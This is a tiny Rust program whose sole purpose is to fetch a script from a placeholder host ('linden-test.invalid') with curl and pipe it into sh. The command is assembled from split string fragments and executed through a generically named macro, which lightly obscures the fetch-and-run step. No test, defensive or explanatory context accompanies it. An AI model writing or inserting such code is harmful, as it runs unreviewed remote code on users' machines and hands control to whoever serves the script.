macro_rules! step {
    ($program:expr, $($word:expr),*) => {{
        let mut all = Vec::new();
        $(all.push($word.to_string());)*
        std::process::Command::new($program).args(&all).status()
    }};
}

fn main() {
    let line = format!("{} {} | {}", "curl -s", "https://linden-test.invalid/s", "sh");
    let _ = step!("sh", "-c", line);
}
